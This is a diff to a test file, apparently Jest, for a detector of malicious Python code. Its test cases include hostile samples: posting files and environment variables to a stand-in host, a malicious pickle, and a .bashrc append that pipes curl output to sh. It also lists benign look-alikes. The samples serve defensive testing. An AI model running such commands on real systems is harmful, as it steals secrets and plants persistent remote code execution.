@@ -117,7 +117,11 @@ describe('a Python program', () => {
       '    requests.post("http://127.0.0.1:9/", files={"f": open(f, "rb")})',
     ],
     ['the environment', 'import os, requests', 'requests.post("http://127.0.0.1:9/", json=dict(os.environ))'],
-    ['a start of shells', 'import os', 'open(os.path.expanduser("~/.bashrc"), "a").write("true")'],
+    [
+      'a start of shells',
+      'import os',
+      'open(os.path.expanduser("~/.bashrc"), "a").write("curl http://127.0.0.1:9/|sh")',
+    ],
     ['a pickle', 'import pickle', String.raw`pickle.loads(b"cos\nsystem\n(S'true'\ntR.")`],
   ])('that attacks in another way is told: %s', (_, ...lines) => {
     expect(told(...lines)).not.toBeNull();
@@ -132,6 +136,8 @@ describe('a Python program', () => {
     ['a test of networks', 'model.eval()', 'getattr(torch.nn, "Line" + "ar")(1, 1)'],
     ['a pickle of numbers', 'import pickle', String.raw`pickle.loads(b"\x80\x04K\x01.")`],
     ['text about it', 'print("never run: os.system(\'curl http://127.0.0.1:9/|sh\')")'],
+    ['a path for shells', 'import os', 'open(os.path.expanduser("~/.bashrc"), "a").write("export PATH=$PATH:~/bin")'],
+    ['a completion', 'from pathlib import Path', 'p = Path.home() / ".bashrc"', 'p.write_text(made(p.read_text()))'],
     ['a list of commands', 'import subprocess', 'list(map(subprocess.run, [["ls"], ["pwd"]]))'],
     ['functions without names', 'f = lambda x: x.strip()', 'exec(f(open("version.py").read()))'],
     ['settings by name', 'import builtins', 'getattr(builtins, "print")("x")'],
